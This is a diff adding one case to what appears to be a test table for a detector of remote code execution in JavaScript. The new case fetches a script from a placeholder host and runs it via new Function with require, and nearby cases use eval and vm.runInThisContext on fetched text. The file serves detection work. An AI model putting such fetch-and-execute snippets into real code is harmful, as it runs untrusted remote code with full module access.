@@ -24,6 +24,7 @@ GET = "fetch('https://files.example.invalid/p.js')"
             True,
         ),
         (f"vm.runInThisContext(await (await {GET}).text())", True),
+        (f"const r = await {GET};\nnew Function('require', await r.text())(require)", True),
         (f"{EV}(atob('Y29uc29sZS5sb2coMSk='))", False),
         ("new Function(Buffer.from(x, 'base64').toString())()", False),
         (f"const c = String.fromCharCode(97, 98);\n{EV}(c)", False),
